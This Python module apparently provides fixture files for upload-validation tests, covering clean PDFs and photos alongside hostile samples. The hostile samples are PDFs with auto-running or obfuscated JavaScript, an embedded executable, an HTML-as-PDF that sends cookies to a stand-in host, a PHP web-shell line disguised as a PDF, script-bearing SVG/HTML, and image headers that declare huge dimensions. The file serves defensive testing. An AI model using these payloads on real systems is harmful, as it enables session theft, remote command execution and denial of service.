"""Real files for upload tests: clean PDFs and hostile ones, images, crafted image headers.

Every app's upload tests build their files here, so "a real PDF" means the same thing everywhere.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Sequence

from PIL import Image, ImageDraw, PngImagePlugin

PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
    b"/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>"
)
CONTENT = b"BT /F1 14 Tf 72 760 Td (Peraturan Desa) Tj ET"


def reportlab_pdf(text: str = "Peraturan Desa Nomor 1 Tahun 2025") -> bytes:
    """A clean PDF as a real writer makes it (reportlab, compressed page content)."""
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    pdf = canvas.Canvas(out, pageCompression=1)
    pdf.drawString(72, 760, text)
    pdf.showPage()
    pdf.save()
    return out.getvalue()


def build_pdf(
    catalog: bytes = b"<< /Type /Catalog /Pages 2 0 R >>",
    *,
    extra: Sequence[bytes] = (),
    packed: Sequence[int] = (),
    trailer_extra: bytes = b"",
) -> bytes:
    """A one-page PDF with correct offsets: objects 1–5 (catalog, pages, page, font, content)
    then `extra` as objects 6, 7, …. Objects whose numbers are in `packed` go into a
    Flate-compressed object stream, and the file then uses a cross-reference stream (PDF 1.5+).
    """
    content = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(CONTENT), CONTENT)
    bodies = [
        catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        PAGE,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        content,
        *extra,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, tuple[int, int, int]] = {}  # number -> (type, field2, field3)
    loose = [n for n in range(1, len(bodies) + 1) if n not in packed]
    for number in loose:
        offsets[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, bodies[number - 1])
    if not packed:
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
        out += b"".join(b"%010d 00000 n \n" % offsets[n][1] for n in range(1, len(bodies) + 1))
        out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
            len(bodies) + 1,
            trailer_extra,
            xref,
        )
        return bytes(out)
    stream_number = len(bodies) + 1
    header, objects = b"", b""
    for index, number in enumerate(packed):
        header += b"%d %d " % (number, len(objects))
        objects += bodies[number - 1] + b"\n"
        offsets[number] = (2, stream_number, index)
    packed_data = zlib.compress(header + objects)
    offsets[stream_number] = (1, len(out), 0)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n" % (
        stream_number,
        len(packed),
        len(header),
        len(packed_data),
    )
    out += b"stream\n" + packed_data + b"\nendstream\nendobj\n"
    xref_number = stream_number + 1
    offsets[xref_number] = (1, len(out), 0)
    rows = b"\x00\x00\x00\x00\x00\xff\xff" + b"".join(
        struct.pack(">BIH", *offsets[n]) for n in range(1, xref_number + 1)
    )
    xref_data = zlib.compress(rows)
    xref = len(out)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R %s/Filter /FlateDecode "
        b"/Length %d >>\nstream\n" % (xref_number, xref_number + 1, trailer_extra, len(xref_data))
    )
    out += xref_data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def pdf_open_action_javascript() -> bytes:
    return build_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        extra=[b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hai'\\)) >>"],
    )


def pdf_embedded_file() -> bytes:
    return build_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 6 0 R >> >>",
        extra=[
            b"<< /Names [(a.exe) 7 0 R] >>",
            b"<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        ],
    )


def pdf_obfuscated_javascript() -> bytes:
    """`/J#61vaScript` and `/O#70enAction` are /JavaScript and /OpenAction to every reader."""
    return build_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /O#70enAction << /S /J#61vaScript /J#53 (x) >> >>"
    )


def pdf_javascript_in_object_stream() -> bytes:
    """The catalog and its action sit in a compressed object stream: invisible to a grep."""
    return build_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        extra=[b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"],
        packed=[1, 2, 6],
    )


def pdf_open_at_first_page() -> bytes:
    """What LibreOffice writes: an /OpenAction that is only a destination."""
    return build_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /XYZ null null 0] >>")


def pdf_open_with_goto() -> bytes:
    """What pdfTeX with hyperref writes: /OpenAction to a GoTo action, in an object stream."""
    return build_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        extra=[b"<< /S /GoTo /D [3 0 R /Fit] >>"],
        packed=[1, 2, 6],
    )


HTML_AS_PDF = (
    b"%PDF-1.4\n<html><body><script>document.location='https://jahat.example/'+document.cookie"
    b"</script></body></html>\n%%EOF\n"
)
PHP_AS_PDF = b"%PDF-1.5\n<?php system($_GET['c']); ?>\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script></svg>\n"
)
HTML = b"<!doctype html><html><body><script>alert(document.domain)</script></body></html>\n"


def png_bytes(size: tuple[int, int] = (40, 30), mode: str = "RGB", text: str = "") -> bytes:
    """A real PNG; `text` goes into a tEXt chunk (where a PHP payload hides in a polyglot)."""
    info = PngImagePlugin.PngInfo()
    if text:
        info.add_text("Comment", text)
    out = io.BytesIO()
    Image.new(mode, size, "green").save(out, "PNG", pnginfo=info)
    return out.getvalue()


def jpeg_bytes(size: tuple[int, int] = (80, 60)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "red").save(out, "JPEG")
    return out.getvalue()


def camera_jpeg(size: tuple[int, int] = (4000, 3000), *, orientation: int = 6) -> bytes:
    """A photo as a 12 MP phone camera writes it: ~7 MB (sensor noise over colour and shapes,
    quality 96) with an EXIF orientation tag (6: the phone was held upright, the pixels lie on
    their side and the viewer turns them 90° clockwise)."""
    width, height = size
    ramp = Image.linear_gradient("L")
    scene = Image.merge(
        "RGB",
        [ramp.resize(size), ramp.rotate(90).resize(size), Image.new("L", size, 90)],
    )
    draw = ImageDraw.Draw(scene)
    for i in range(40):
        x, y = i * 97 % width, i * 61 % height
        draw.ellipse([x, y, x + 300, y + 220], fill=(i * 53 % 255, i * 91 % 255, i * 37 % 255))
    photo = Image.blend(scene, Image.effect_noise(size, 40).convert("RGB"), 0.35)
    exif = Image.Exif()
    exif[0x0112] = orientation
    out = io.BytesIO()
    photo.save(out, "JPEG", quality=96, exif=exif)
    return out.getvalue()


def png_header(width: int, height: int) -> bytes:
    """A PNG that declares `width` × `height` pixels in its header and holds almost nothing:
    decoding it would allocate width × height × 3 bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 1024)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def jpeg_header(width: int, height: int) -> bytes:
    """A baseline JPEG whose frame header declares `width` × `height` (the scan is a stub)."""
    small = io.BytesIO()
    Image.new("RGB", (16, 16), "blue").save(small, "JPEG")
    data = small.getvalue()
    sof = data.index(b"\xff\xc0")
    # SOF0: marker, length (2), precision (1), height (2), width (2)
    return data[: sof + 5] + struct.pack(">HH", height, width) + data[sof + 9 :]
